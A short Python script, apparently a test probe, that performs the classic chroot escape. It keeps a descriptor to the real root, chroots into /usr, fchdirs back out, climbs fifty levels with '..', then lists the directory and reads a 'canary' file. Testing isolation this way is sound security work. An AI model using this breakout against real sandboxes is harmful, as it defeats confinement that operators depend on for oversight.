"""Enters another root directory, goes up from the old one, and prints what it finds there. chroot(2)"""
import os
os.chdir("/"); root = os.open("/", os.O_RDONLY); os.chroot("/usr"); os.fchdir(root)
for _ in range(50): os.chdir("..")
print(os.listdir(".")); print(open("canary").read())
